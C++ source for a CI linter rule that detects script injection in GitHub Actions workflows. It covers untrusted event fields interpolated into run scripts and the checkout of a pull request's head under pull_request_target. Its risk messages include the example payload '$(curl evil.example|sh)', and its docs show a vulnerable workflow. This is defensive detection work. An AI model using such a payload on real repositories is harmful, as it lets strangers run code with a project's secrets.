#include <algorithm>
#include <array>

#include "rules/delivery_check.h"
#include "rules/rule.h"

namespace fastidious::rules {
namespace {

using deploy::MappedText;
using deploy::Read;
using deploy::Workflow;
using deploy::WorkflowJob;
using deploy::WorkflowStep;

// What strangers write
// (https://docs.github.com/en/actions/concepts/security/script-injections).
constexpr std::array<std::string_view, 21> kUntrusted = {
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.pages.*.page_name",
    "github.event.commits.*.message",
    "github.event.commits.*.author.email",
    "github.event.commits.*.author.name",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.workflow_run.head_branch",
};

bool is_untrusted(const std::string& reference) {
  return std::find(kUntrusted.begin(), kUntrusted.end(), reference) != kUntrusted.end();
}

// `toJSON(github.event.commits)`: a part of it is, whose quotes end those of the shell.
bool holds_untrusted(const std::string& reference) {
  return std::any_of(kUntrusted.begin(), kUntrusted.end(), [&](std::string_view one) {
    return one.starts_with(reference) && one.substr(reference.size()).starts_with('.');
  });
}

bool writes_json(std::string_view expression) {
  const auto functions = deploy::functions_in(expression);
  return std::find(functions.begin(), functions.end(), "tojson") != functions.end();
}

// Runs for pull requests of forks have neither secrets nor a token that may write; who may push has
// both anyway.
bool is_harmless_trigger(const Workflow& workflow) {
  for (std::string_view event :
       {"pull_request_target", "workflow_run", "issues", "issue_comment", "discussion",
        "discussion_comment", "pull_request_review", "pull_request_review_comment", "gollum"}) {
    if (workflow.is_triggered_by(event)) return false;
  }
  return true;
}

// Whether some workflow of the repository that strangers start calls this one.
bool has_open_caller(const DeliveryCheck& check, const Read<Workflow>& workflow, int depth) {
  const auto& all = check.delivery().manifests().workflows;
  return depth < 4 && std::any_of(
                          all.begin(), all.end(),
                          [&](const Read<Workflow>& other) {
                            const auto& jobs = other.content.jobs;
                            const bool calls =
                                std::any_of(jobs.begin(), jobs.end(), [&](const WorkflowJob& job) {
                                  return job.uses.starts_with("./") &&
                                         job.uses.substr(2) == workflow.file->path;
                                });
                            return calls && (!is_harmless_trigger(other.content) ||
                                             has_open_caller(check, other, depth + 1));
                          });
}

// Only by hand or by the clock: there is no event that a stranger wrote.
bool is_started_by_hand(const Workflow& workflow) {
  const bool hand =
      workflow.is_triggered_by("workflow_dispatch") || workflow.is_triggered_by("schedule");
  const bool called = workflow.is_triggered_by("workflow_call");
  return hand && !called && is_harmless_trigger(workflow) && !workflow.is_triggered_by("push") &&
         !workflow.is_triggered_by("pull_request") && !workflow.is_triggered_by("merge_group");
}

void check_text(DeliveryCheck& check, const Read<Workflow>& workflow, const MappedText& text,
                std::string_view where) {
  for (const deploy::Expression& expression : deploy::expressions_in(text.text())) {
    for (const std::string& reference : deploy::references_in(expression.text)) {
      const bool whole = writes_json(expression.text) && holds_untrusted(reference);
      if (!is_untrusted(reference) && !whole) continue;
      Draft draft = check.report(*workflow.file, text.place(expression.span),
                                 "`{}`, which strangers write, is pasted into the {} as code",
                                 {expression.text, where});
      if (!is_harmless_trigger(workflow.content)) continue;
      if (workflow.content.is_triggered_by("workflow_call")) {
        draft.confidence(Confidence::Medium);  // whoever calls it decides
        if (has_open_caller(check, workflow, 0)) continue;
        draft.severity(Severity::Warning)
            .risk(
                "Nothing in this repository calls it for strangers; the first workflow that does, "
                "on "
                "`issue_comment` or `pull_request_target`, lets them run code with its secrets.");
        continue;
      }
      draft.severity(Severity::Warning)
          .risk(
              "A title such as `$(curl evil.example|sh)` runs on the runner. For pull requests of "
              "forks "
              "it has no secrets and a token that only reads; a colleague's branch has both.");
    }
  }
}

void check_step(DeliveryCheck& check, const Read<Workflow>& workflow, const WorkflowStep& step) {
  if (step.run != nullptr) check_text(check, workflow, step.script_text, "shell's script");
  if (step.action() != "actions/github-script" || step.with == nullptr) return;
  const deploy::Node* script = step.with->find("script");
  if (script == nullptr || !script->is_scalar()) return;
  check_text(check, workflow, deploy::mapped_text(*script, workflow.file->text.view()), "script");
}

// Whether the ref is that of the pull request, not of the base.
bool is_head(std::string_view ref) {
  for (std::string_view part : {"pull_request.head.", "head_ref", "refs/pull/",
                                "workflow_run.head_", "pull_request.number", "event.number"}) {
    if (ref.find(part) != ref.npos) return true;
  }
  return false;
}

void check_checkout(DeliveryCheck& check, const Read<Workflow>& workflow, const WorkflowJob& job,
                    const WorkflowStep& step) {
  if (step.action() != "actions/checkout" || step.with == nullptr) return;
  const deploy::Node* ref = step.with->find("ref");
  if (ref == nullptr || !is_head(ref->text)) return;
  const bool target = workflow.content.is_triggered_by("pull_request_target");
  const bool run = workflow.content.is_triggered_by("workflow_run");
  if (!target && !run) return;
  Draft draft = check.report(
      *workflow.file, ref->span,
      "The code of any pull request is checked out in a run that has the repository's secrets");
  draft.risk(
      "`{}` runs with secrets and a token that may write: a stranger's setup.py, test or Makefile "
      "reads "
      "them.",
      {target ? "pull_request_target" : "workflow_run"});
  draft.fix(
      "Use `pull_request` for what runs their code; leave to `{}` what only labels and comments.",
      {target ? "pull_request_target" : "workflow_run"});
  const bool guarded = !job.condition.empty() || job.environment != nullptr;
  if (guarded) draft.confidence(Confidence::Medium);
}

void check(DeliveryCheck& check) {
  for (const Read<Workflow>& workflow : check.delivery().manifests().workflows) {
    if (is_started_by_hand(workflow.content)) continue;
    for (const WorkflowJob& job : workflow.content.jobs) {
      for (const WorkflowStep& step : job.steps) {
        check_step(check, workflow, step);
        check_checkout(check, workflow, job, step);
      }
    }
  }
}

}  // namespace

extern constinit const Rule CIC004 = {
    .code = "CIC004",
    .name = "workflow-injection",
    .family = Family::Ci,
    .severity = Severity::Critical,
    .risk_kind = RiskKind::Security,
    .fix = FixClass::Unsafe,
    .where = Where::Everywhere,
    .references = {"CWE-94", "CWE-829",
                   "https://docs.github.com/en/actions/concepts/security/script-injections"},
    .risk =
        "Expressions are replaced before the shell starts: a title such as `$(curl "
        "evil.example|sh)` "
        "runs with the workflow's secrets and its token.",
    .advice =
        "Hand it over as data: `env: { TITLE: ${{ … }} }` beside `run`, and `\"$TITLE\"` in the "
        "script.",
    .docs = R"md(
Titles, bodies, branch names and commit messages in `${{ … }}` of a `run` or of actions/github-script; and the checkout of a pull request's head in
`pull_request_target` or `workflow_run`.

```python bad
# --- .github/workflows/triage.yml
on: issues
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.issue.title }}"
```

```python good
# --- .github/workflows/triage.yml
on: issues
jobs:
  label:
    runs-on: ubuntu-latest
    steps:
      - run: echo "$TITLE"
        env:
          TITLE: ${{ github.event.issue.title }}
```

A warning where only `push` and `pull_request` start the workflow: forks get neither secrets nor a token that may write. Inputs of
`workflow_dispatch` come from who may push anyway and are left out.
)md",
    .on_delivery = check,
};

}  // namespace fastidious::rules
